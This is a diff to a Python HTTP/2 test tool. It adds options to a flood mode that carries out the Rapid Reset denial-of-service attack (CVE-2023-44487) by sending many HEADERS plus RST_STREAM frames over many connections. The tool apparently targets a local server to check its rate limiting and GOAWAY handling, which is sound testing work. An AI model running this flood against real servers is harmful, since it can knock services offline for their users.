@@ -12,10 +12,12 @@ Exit: 0 when the exchange ended in a response, a reset or a GOAWAY; 1 on a timeo
 
 Flood mode (Rapid Reset over many connections, CVE-2023-44487):
   python3 tools/h2-attack.py --port N --flood CONNS --per-conn M [--burst B] [--interval-ms T] [--linger-ms L]
-                             [--source 127.0.0.2] [--path /c/flood?k=]
+                             [--source 127.0.0.2] [--path /c/flood?k=] [--same-path] [--no-reset]
   opens CONNS connections from --source (a local address to bind, so tests can tell the attacker from normal
   clients), then on each sends M pairs of HEADERS (GET PATH<conn>-<i>, END_STREAM) + RST_STREAM(CANCEL), B pairs per
   write with T ms between rounds, reads (and HPACK-decodes) whatever comes back for L ms after the last write, and
+  --same-path sends PATH itself every time (one key), --no-reset sends the HEADERS alone and stops reading once
+  every stream has its status; then
   prints {"conns": N, "connected": N, "sent": N, "statuses": {"429": N, ...}, "resets": N, "goaways": N,
   "closed": N, "elapsed_ms": N}. Exit 0 unless no connection could be made.
 Run it with Debian's /usr/bin/python3, which has python3-h2 (h2, hpack, hyperframe); prior-knowledge h2c over plain TCP, 127.0.0.1 only by default.
@@ -206,8 +208,11 @@ def flood(args):
             for _ in range(min(args.burst, args.per_conn - c.sent)):
                 sid = c.next_sid
                 c.next_sid += 2
-                block = b"\x82\x86" + hpack_literal(0x04, "%s%d-%d" % (args.path, ci, c.sent)) + hpack_literal(0x01, authority)
-                c.outbuf += frame(0x1, 0x5, sid, block) + frame(0x3, 0, sid, struct.pack(">I", 0x8))
+                path = args.path if args.same_path else "%s%d-%d" % (args.path, ci, c.sent)
+                block = b"\x82\x86" + hpack_literal(0x04, path) + hpack_literal(0x01, authority)
+                c.outbuf += frame(0x1, 0x5, sid, block)
+                if not args.no_reset:
+                    c.outbuf += frame(0x3, 0, sid, struct.pack(">I", 0x8))
                 c.sent += 1
                 out["sent"] += 1
         deadline = time.monotonic() + args.interval_ms / 1000.0
@@ -216,6 +221,8 @@ def flood(args):
             pump(max(0.0, deadline - time.monotonic()))
     deadline = time.monotonic() + args.linger_ms / 1000.0
     while time.monotonic() < deadline and not all(c.closed for c in conns):
+        if args.no_reset and sum(out["statuses"].values()) >= out["sent"]:
+            break
         pump(max(0.0, min(0.05, deadline - time.monotonic())))
     out["closed"] = sum(1 for c in conns if c.closed)
     for c in conns:
@@ -241,6 +248,8 @@ def main():
     ap.add_argument("--linger-ms", type=int, default=500)
     ap.add_argument("--source", default="127.0.0.1")
     ap.add_argument("--path", default="/c/flood?k=")
+    ap.add_argument("--same-path", action="store_true")
+    ap.add_argument("--no-reset", action="store_true")
     args = ap.parse_args()
     if args.flood:
         try:
